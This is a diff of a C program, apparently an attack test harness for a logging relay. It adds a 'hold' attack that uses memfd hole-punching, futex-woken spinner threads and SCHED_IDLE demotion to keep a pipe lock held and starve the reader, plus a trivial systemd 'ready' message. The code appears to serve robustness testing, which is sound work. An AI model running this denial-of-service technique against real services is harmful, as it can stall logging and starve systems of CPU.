@@ -1,14 +1,21 @@
 /* SPDX-License-Identifier: LGPL-2.1-or-later */
 #include <errno.h>
 #include <fcntl.h>
+#include <linux/futex.h>
 #include <poll.h>
+#include <pthread.h>
+#include <sched.h>
+#include <stdatomic.h>
 #include <stdbool.h>
+#include <stdint.h>
 #include <stdio.h>
 #include <stdlib.h>
 #include <string.h>
 #include <sys/ioctl.h>
+#include <sys/mman.h>
 #include <sys/socket.h>
 #include <sys/stat.h>
+#include <sys/syscall.h>
 #include <sys/uio.h>
 #include <sys/un.h>
 #include <time.h>
@@ -215,13 +222,151 @@ static int streams(char **arguments) {
         return 0;
 }
 
+/* No attack: only a message to systemd. */
+static int ready(char **arguments) {
+        (void) !send(local(getenv("NOTIFY_SOCKET")), "READY=1", 7, 0);
+        return pause();
+}
+
+/*
+ * hold: keep the kernel's lock of our own pipe. write(2) has it while it copies from memory. That memory is a hole in a
+ * file, which has to wait for whoever makes another hole there; and when that is done, our other threads have all
+ * processors.
+ */
+
+#define SPINNERS 300
+#define HOLD_SECONDS 12
+#define LINES_SIZE ((size_t) 600 << 10)
+#define HELD_SIZE ((size_t) 200 << 10) /* of the pipe, which has 1 MiB */
+#define FILE_SIZE ((size_t) 700 << 20)
+
+static struct {
+        int file;
+        char *memory;
+        char *lines;
+        atomic_int writer; /* thread id */
+        atomic_int spin;   /* a futex */
+        atomic_int round;
+        atomic_bool is_hole, punching, punched, is_in_write;
+} hold;
+
+static void *run_spinner(void *data) {
+        for (;;) {
+                while (!hold.spin)
+                        syscall(SYS_futex, &hold.spin, FUTEX_WAIT, 0, NULL, NULL, 0);
+                while (hold.spin)
+                        ;
+        }
+        return NULL;
+}
+
+static void punch(size_t size) {
+        (void) fallocate(hold.file, FALLOC_FL_PUNCH_HOLE | FALLOC_FL_KEEP_SIZE, 0, (off_t) size);
+}
+
+static void next_round(int *round) {
+        while (hold.round == *round)
+                usleep(200);
+        *round = hold.round;
+}
+
+static void *run_writer(void *data) {
+        hold.writer = (int) syscall(SYS_gettid);
+        for (int round = 0;;) {
+                next_round(&round);
+                punch(1 << 20);
+                hold.is_hole = true;
+                while (!hold.punching)
+                        ;
+                (void) !write(STDOUT_FILENO, hold.lines, LINES_SIZE);
+                hold.is_in_write = true;
+                (void) !write(STDOUT_FILENO, hold.memory, HELD_SIZE);
+                hold.is_in_write = false;
+        }
+        return NULL;
+}
+
+static void *run_puncher(void *data) {
+        for (int round = 0;;) {
+                next_round(&round);
+                while (!hold.is_hole)
+                        usleep(50);
+                hold.punching = true;
+                punch(FILE_SIZE);
+                hold.punched = true;
+        }
+        return NULL;
+}
+
+static void start_threads(void *(*run)(void *), int n) {
+        pthread_attr_t attributes;
+        pthread_t thread;
+
+        pthread_attr_init(&attributes);
+        pthread_attr_setstacksize(&attributes, 64 << 10);
+        while (n-- > 0)
+                if (pthread_create(&thread, &attributes, run, NULL) != 0)
+                        exit(6);
+}
+
+static bool writer_sleeps(void) {
+        char path[64], state = '?';
+        FILE *file;
+
+        snprintf(path, sizeof path, "/proc/self/task/%d/stat", hold.writer);
+        file = fopen(path, "re");
+        (void) !fscanf(file, "%*d (%*[^)]) %c", &state);
+        fclose(file);
+        return state == 'D';
+}
+
+static void hold_once(void) {
+        const struct sched_param none = { 0 };
+
+        memset(hold.memory + (1 << 20), 1, FILE_SIZE - (1 << 20));
+        hold.is_hole = hold.punching = hold.punched = false;
+        hold.round++;
+        while (!hold.punched && !(hold.is_in_write && writer_sleeps()))
+                usleep(50);
+        (void) sched_setscheduler(hold.writer, SCHED_IDLE, &none);
+        hold.spin = 1;
+        syscall(SYS_futex, &hold.spin, FUTEX_WAKE, INT32_MAX, NULL, NULL, 0);
+        while (!hold.punched)
+                usleep(1000);
+        usleep(20000);
+        for (int i = 0; i < HOLD_SECONDS * 1000 && hold.is_in_write; i++)
+                usleep(1000);
+        hold.spin = 0;
+        (void) sched_setscheduler(hold.writer, SCHED_OTHER, &none);
+        while (hold.is_in_write)
+                usleep(1000);
+}
+
+_Noreturn static int hold_pipe(char **arguments) {
+        (void) fcntl(STDOUT_FILENO, F_SETPIPE_SZ, 1 << 20);
+        hold.file = memfd_create("hold", 0);
+        (void) !ftruncate(hold.file, (off_t) FILE_SIZE);
+        hold.memory = mmap(NULL, FILE_SIZE, PROT_READ | PROT_WRITE, MAP_SHARED, hold.file, 0);
+        hold.lines = malloc(LINES_SIZE);
+        for (size_t i = 0; i < LINES_SIZE; i++)
+                hold.lines[i] = i % 100 == 99 ? '\n' : 'p';
+        hold.lines[LINES_SIZE - 1] = 'p'; /* the relay looks again and again for the end of this line */
+        start_threads(run_spinner, SPINNERS);
+        start_threads(run_writer, 1);
+        start_threads(run_puncher, 1);
+        while (!hold.writer)
+                usleep(1000);
+        for (;;)
+                hold_once();
+}
+
 static const struct {
         const char *name;
         int (*run)(char **arguments);
 } attacks[] = {
         { "steal", steal },           { "packets", packets },     { "pages", pages }, { "flood", flood },
         { "chown-pipe", chown_pipe }, { "emergency", emergency }, { "keep", keep },   { "give", give },
-        { "streams", streams },
+        { "streams", streams },       { "hold", hold_pipe },      { "ready", ready },
 };
 
 int main(int argc, char **argv) {
